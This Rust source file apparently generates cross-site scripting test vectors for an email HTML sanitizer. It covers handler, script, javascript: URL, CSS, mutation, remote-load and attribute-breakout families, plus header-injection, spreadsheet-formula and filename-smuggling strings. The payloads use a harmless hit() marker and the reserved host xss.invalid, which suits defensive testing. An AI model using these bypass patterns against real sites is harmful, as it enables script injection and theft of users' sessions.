//! Vectors of cross-site scripting, made family by family: elements by handlers, addresses by
//! places, styles, markup that changes when it is parsed again, remote loads, and text for headers.
//!
//! Each one that runs calls `hit(…)` or asks `xss.invalid` for something, so that a test in a browser
//! can tell. `tests/fixtures/xss/vectors.jsonl` holds the same vectors for such a test.

/// Where a vector stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    /// In the HTML body.
    Body,
    /// In subject, names, addresses and file names.
    Text,
}

/// One vector.
#[derive(Debug, Clone)]
pub(crate) struct Vector {
    pub(crate) name: String,
    pub(crate) place: Place,
    pub(crate) text: String,
}

/// All vectors, in a stable order.
pub(crate) fn vectors() -> Vec<Vector> {
    let mut all = Vec::new();
    let families: [(&str, Place, Vec<String>); 8] = [
        ("handler", Place::Body, handlers()),
        ("script", Place::Body, scripts()),
        ("address", Place::Body, addresses()),
        ("style", Place::Body, styles()),
        ("mutation", Place::Body, mutations()),
        ("remote", Place::Body, remote_loads()),
        ("breakout", Place::Body, breakouts()),
        ("text", Place::Text, texts()),
    ];
    for (family, place, texts) in families {
        for (index, text) in texts.into_iter().enumerate() {
            all.push(Vector {
                name: format!("{family}-{index:03}"),
                place,
                text,
            });
        }
    }
    all
}

fn handlers() -> Vec<String> {
    let elements = [
        "img src=x",
        "svg",
        "body",
        "div",
        "iframe src=x",
        "input autofocus",
        "video src=x",
        "audio src=x",
        "details open",
        "marquee",
        "object data=x",
        "embed src=x",
        "math",
        "a href=x",
        "td",
        "button",
        "form",
        "select autofocus",
        "textarea autofocus",
        "style",
        "link rel=stylesheet href=x",
        "p tabindex=1",
        "custom-element",
        "svg><animate attributeName=x dur=1s",
    ];
    let handlers = [
        "onload",
        "onerror",
        "ONCLICK",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onanimationstart",
    ];
    let mut made = Vec::new();
    for element in elements {
        for handler in handlers {
            made.push(format!("<{element} {handler}=hit(1)>x"));
        }
    }
    for separator in [
        "/", "\t", "\n", "\u{c}", "/\"x\"/", "\0", "\u{b}", "=x ", "x=\"`\" ",
    ] {
        made.push(format!("<img{separator}src=x{separator}onerror=hit(2)>"));
        made.push(format!("<b{separator}onclick{separator}= hit(2)>x</b>"));
    }
    made
}

fn scripts() -> Vec<String> {
    let mut made: Vec<String> = [
        "<script>hit(1)</script>",
        "<SCRIPT>hit(1)</SCRIPT>",
        "<script >hit(1)</script >",
        "<script/x>hit(1)</script>",
        "<scr<script>ipt>hit(1)</scr</script>ipt>",
        "<script>hit(1)",
        "<script src=//xss.invalid/a.js></script>",
        "<script\0>hit(1)</script>",
        "<<script>hit(1)//<</script>",
        "<script type=module>hit(1)</script>",
        "<svg><script>hit(1)</script></svg>",
        "<svg><script xlink:href=//xss.invalid/a></script></svg>",
        "<math><script>hit(1)</script></math>",
        "<svg><script>&#104;it(1)</script>",
        "<!--><script>hit(1)</script>-->",
        "<!--\n--!><script>hit(1)</script>",
        "<![CDATA[<script>hit(1)</script>]]>",
        "<?xml version=1?><script>hit(1)</script>",
        "<!DOCTYPE x [<!ENTITY y '<script>hit(1)</script>'>]>&y;",
        "<iframe srcdoc='<script>hit(1)</script>'></iframe>",
        "<iframe><script>hit(1)</script></iframe>",
        "<noscript><script>hit(1)</script></noscript>",
        "<template><script>hit(1)</script></template>",
        "<table><script>hit(1)</script></table>",
        "<select><script>hit(1)</script></select>",
        "<frameset><frame src=javascript:hit(1)></frameset>",
        "<title></title><script>hit(1)</script>",
        "<textarea></textarea><script>hit(1)</script>",
        "<plaintext><script>hit(1)</script>",
        "<xmp><script>hit(1)</script></xmp>",
        "</body></html><script>hit(1)</script>",
        "&lt;script&gt;hit(1)&lt;/script&gt;<script>hit(1)</script>",
        "\u{feff}<script>hit(1)</script>",
        "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
    ]
    .map(str::to_owned)
    .into();
    for element in [
        "svg", "math", "table", "select", "noembed", "noframes", "object", "applet", "button",
    ] {
        made.push(format!("<{element}><p><script>hit(2)</script></{element}>"));
    }
    made
}

fn addresses() -> Vec<String> {
    let places = [
        "<a href=\"{}\">x</a>",
        "<img src=\"{}\">",
        "<iframe src=\"{}\"></iframe>",
        "<form action=\"{}\"><input type=submit></form>",
        "<object data=\"{}\"></object>",
        "<embed src=\"{}\">",
        "<link rel=stylesheet href=\"{}\">",
        "<base href=\"{}\"><a href=x>x</a>",
        "<map><area href=\"{}\"></map>",
        "<body background=\"{}\">",
        "<table background=\"{}\"><tr><td>x</table>",
        "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>",
        "<math href=\"{}\">x</math>",
        "<meta http-equiv=refresh content=\"0;url={}\">",
        "<button formaction=\"{}\">x</button>",
        "<input type=image src=\"{}\">",
        "<img srcset=\"{} 1x\">",
        "<video poster=\"{}\"></video>",
        "<svg><use href=\"{}\"/></svg>",
    ];
    let values = [
        "javascript:hit(1)",
        "JaVaScRiPt:hit(1)",
        "java\tscript:hit(1)",
        "java\nscript:hit(1)",
        "&#106;avascript:hit(1)",
        "&#x6A&#x61vascript:hit(1)",
        "\u{1}javascript:hit(1)",
        "  javascript:hit(1)",
        "javascript&colon;hit(1)",
        "vbscript:hit(1)",
        "data:text/html,<script>hit(1)</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgxKSIvPg==",
    ];
    let pairs = places
        .iter()
        .flat_map(|place| values.iter().map(move |value| (place, value)));
    pairs
        .map(|(place, value)| place.replace("{}", value))
        .collect()
}

fn styles() -> Vec<String> {
    let places = [
        "<p style=\"{}\">x</p>",
        "<style>p{{}}</style><p>x</p>",
        "<td style='{}'>x</td>",
    ];
    let values = [
        "background:url(//xss.invalid/a)",
        "background-image:URL(http://xss.invalid/a)",
        "color:u\\72l(http://xss.invalid)",
        "width:expression(hit(1))",
        "behavior:url(http://xss.invalid/a.htc)",
        "-moz-binding:url(http://xss.invalid/a)",
        "background:url/**/(http://xss.invalid)",
        "list-style:url(javascript:hit(1))",
        "content:url(http://xss.invalid/a)",
        "background:image-set(&quot;http://xss.invalid/a&quot; 1x)",
        "cursor:url(http://xss.invalid/a),auto",
        "color:red;}body{background:url(http://xss.invalid/a)",
        "@import url(http://xss.invalid/a.css);",
        "font-family:x;src:url(http://xss.invalid/a.woff)",
        "position:fixed;top:0;left:0;width:100%;height:100%",
        "color:\\75rl(http://xss.invalid)",
        "border-image:url(http://xss.invalid/a) 1",
        "background-color:var(--x,url(http://xss.invalid))",
        "color:red/*;*/;background:url(http://xss.invalid)",
    ];
    let pairs = places
        .iter()
        .flat_map(|place| values.iter().map(move |value| (place, value)));
    pairs
        .map(|(place, value)| place.replace("{}", value))
        .collect()
}

fn mutations() -> Vec<String> {
    let payload = "<img src=x onerror=hit(1)>";
    let mut made: Vec<String> = Vec::new();
    for root in ["svg", "math"] {
        for raw in [
            "style",
            "title",
            "xmp",
            "noscript",
            "iframe",
            "noembed",
            "textarea",
            "desc",
            "annotation-xml",
            "mtext",
        ] {
            made.push(format!("<{root}><{raw}>{payload}</{raw}></{root}>"));
            made.push(format!("<{root}></p><{raw}><a id=\"</{raw}>{payload}\">"));
        }
    }
    let frames = [
        "<math><mtext><table><mglyph><style><!--</style>{}--></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math>{}</style>",
        "<svg><foreignObject><math><annotation-xml encoding=text/html><style>{}</style></svg>",
        "<noscript><p title=\"</noscript>{}\">",
        "<template><s><template><s>{}</s></template></s></template>",
        "<select><style></select>{}</style>",
        "<table><style><table>{}</style></table>",
        "<a title=\"`{}`\">x</a>",
        "<p title='--><!--{}'>",
        "<!-- --!>{}-->",
        "<!-->{}-->",
        "<b title=\"&quot;>{}\">",
        "<xmp><p title=\"</xmp>{}\">",
        "<plaintext>{}",
        "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>",
        "<svg><p><style><g title=\"</style>{}\">",
        "<svg><desc><style>{}</desc></svg>",
        "<p><svg><title></p>{}</title></svg>",
        "<select><option><template>{}</template></option></select>",
        "<image src=x onerror=hit(1)>",
    ];
    made.extend(frames.iter().map(|frame| frame.replace("{}", payload)));
    made
}

fn remote_loads() -> Vec<String> {
    let host = [
        "http://xss.invalid/a",
        "//xss.invalid/a",
        "\\\\xss.invalid\\a",
        "HTTPS://xss.invalid/a",
    ];
    let places = [
        "<img src=\"{}\">",
        "<img srcset=\"{} 2x\">",
        "<img src=x lowsrc=\"{}\">",
        "<td background=\"{}\">",
        "<link rel=prefetch href=\"{}\">",
        "<link rel=dns-prefetch href=\"{}\">",
        "<picture><source srcset=\"{}\"><img></picture>",
        "<audio src=\"{}\">",
        "<track src=\"{}\">",
        "<input type=image src=\"{}\">",
        "<svg><image href=\"{}\"/></svg>",
        "<style>@import '{}';</style>",
        "<bgsound src=\"{}\">",
        "<meta http-equiv=refresh content='0;{}'>",
        "<a ping=\"{}\" href=\"#\">x</a>",
        "<html manifest=\"{}\">",
        "<frame src=\"{}\">",
        "<img width=1 height=1 src=\"{}\">",
    ];
    let pairs = places
        .iter()
        .flat_map(|place| host.iter().map(move |host| (place, host)));
    pairs
        .map(|(place, host)| place.replace("{}", host))
        .collect()
}

fn breakouts() -> Vec<String> {
    let payloads = [
        "\"><img src=x onerror=hit(1)>",
        "'><svg onload=hit(1)>",
        "\" onmouseover=hit(1) x=\"",
        "`onclick=hit(1)`",
    ];
    let places = [
        "<img alt=\"{}\">",
        "<img alt='{}'>",
        "<p title=\"{}\">x</p>",
        "<font color=\"{}\">x</font>",
        "<a href=\"http://xss.invalid/{}\">x</a>",
        "<td width=\"{}\">x</td>",
        "<div class=\"gmail_quote {}\">x</div>",
        "<div id=\"divRplyFwdMsg{}\">x</div>",
        "<p lang={}>x</p>",
    ];
    let pairs = places
        .iter()
        .flat_map(|place| payloads.iter().map(move |payload| (place, payload)));
    pairs
        .map(|(place, payload)| place.replace("{}", payload))
        .collect()
}

fn texts() -> Vec<String> {
    let mut made: Vec<String> = [
        "<script>hit(1)</script>",
        "\"><img src=x onerror=hit(1)>",
        "' onmouseover='hit(1)",
        "`onclick=hit(1)`",
        "</title><script>hit(1)</script>",
        "&lt;img src=x onerror=hit(1)&gt;",
        "javascript:hit(1)",
        "{{hit(1)}}",
        "${hit(1)}",
        "<svg/onload=hit(1)>",
        "]]><script>hit(1)</script>",
        "--><script>hit(1)</script>",
        "\u{202e}<b>x</b>",
        "a\u{0}<b onclick=hit(1)>",
        "\u{ff1c}script\u{ff1e}hit(1)",
        "=HYPERLINK(\"http://xss.invalid\")",
        "a.svg\"; filename=\"b.html",
        "a\u{2028}<img src=x onerror=hit(1)>",
        "&#60;script&#62;hit(1)&#60;/script&#62;",
        "x<!--",
        "</p></body><iframe src=//xss.invalid>",
        "%0d%0aSet-Cookie: x=1",
        "../../<b>.html",
        "<a href=//xss.invalid>x</a>",
    ]
    .map(str::to_owned)
    .into();
    let more: Vec<String> = made.iter().map(|text| text.to_uppercase()).collect();
    made.extend(more);
    made
}
